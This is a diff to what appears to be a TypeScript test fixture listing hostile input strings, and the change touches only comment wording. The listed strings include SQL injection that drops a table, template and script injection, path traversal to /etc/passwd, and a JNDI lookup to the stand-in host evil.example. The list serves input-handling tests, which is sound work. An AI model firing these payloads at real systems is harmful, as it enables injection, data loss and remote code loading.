@@ -1,4 +1,4 @@
-/** Texts that make careless programs fail, each under the name of its attack. */
+/** Texts that break programs which do not escape them, each under the name of its attack. */
 export const HOSTILE_TEXTS: Record<string, string> = {
   'a null in words': 'null',
   'undefined in words': 'undefined',
@@ -56,7 +56,7 @@ export const HOSTILE_TEXTS: Record<string, string> = {
   'a comment': '<!-- --!> <![CDATA[ ]]>',
   entities: '&lt;script&gt; &amp;amp; &#0; &nbsp;',
   'an address that runs': 'javascript:alert(1)//',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for careless templates
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text attacks templates
   'a template': '${7*7} {{7*7}} <%= 7*7 %> #{7*7}',
   'a template of components': '{{constructor.constructor("alert(1)")()}}',
   SQL: "Robert'); DROP TABLE inquiries;--",
@@ -66,7 +66,7 @@ export const HOSTILE_TEXTS: Record<string, string> = {
   'a path': '../../../../etc/passwd',
   'a path of Windows': '..\\..\\CON\\aux.txt',
   'a placeholder': '%s%n%d %00 %0d%0a %c0%af',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for careless loggers
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text attacks loggers
   'a lookup': '${jndi:ldap://evil.example/a}',
   'a regular expression': '(a+)+$ [[:alpha:]] \\',
   'replacement patterns': "$& $1 $$ $` $'",
